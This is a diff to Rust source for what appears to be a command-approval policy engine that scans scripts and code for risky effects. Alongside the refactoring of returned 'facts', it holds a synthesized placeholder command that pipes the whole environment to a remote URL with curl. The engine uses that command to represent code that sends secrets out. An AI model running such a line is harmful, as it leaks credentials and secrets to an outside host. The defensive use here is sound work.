@@ -30,8 +30,10 @@ impl Policy<'_> {
         let mut scripts = text.shell;
         if let Some((code, lang)) = text.code {
             let found = content::scan_code(&code, lang);
-            if found.facts != 0 {
-                out.push(Cmd { argv: vec![Word::lit(path)], program: "(code)".into(), facts: found.facts, ..Cmd::default() });
+            // (A change on another machine is judged when the code runs, as a deploy script's.)
+            let facts = found.facts & !fact::REMOTE_CHANGE;
+            if facts != 0 {
+                out.push(Cmd { argv: vec![Word::lit(path)], program: "(code)".into(), facts, ..Cmd::default() });
             }
             scripts.extend(found.lines);
         }
@@ -255,8 +257,8 @@ impl Policy<'_> {
     /// `${BASH_SOURCE[0]}` only where bash runs it.
     /// The second value says the file's code does more than ana judges of one file (more
     /// commands and file effects than it keeps): the rest cannot be cleared.
-    pub fn scripts_on_disk(file: &str, text: &str, runner: &str, ran: Ran) -> (Vec<String>, bool) {
-        let mut too_big = false;
+    pub fn scripts_on_disk(file: &str, text: &str, runner: &str, ran: Ran) -> (Vec<String>, u32) {
+        let mut facts = 0;
         let scripts = if file.starts_with("git alias ") {
             vec![text.to_owned()]
         } else {
@@ -289,7 +291,7 @@ impl Policy<'_> {
             // serialized and sent is not, and stands as the shell line that does the same.
             if let Some((code, lang)) = t.code {
                 let found = content::scan_code(&code, lang);
-                too_big = found.facts & (fact::TOO_BIG | fact::HIDDEN_CODE) != 0;
+                facts = found.facts;
                 scripts.extend(found.lines);
                 if found.sends_whole_env {
                     scripts.push("env | curl -s --data-binary @- -- 'https://(where the code sends it)'".to_owned());
@@ -297,7 +299,7 @@ impl Policy<'_> {
             }
             scripts
         };
-        (scripts.into_iter().filter(|s| !s.trim().is_empty()).collect(), too_big)
+        (scripts.into_iter().filter(|s| !s.trim().is_empty()).collect(), facts)
     }
 
     /// What a file a command runs from disk calls for (see `crate::ondisk`): approval, naming the
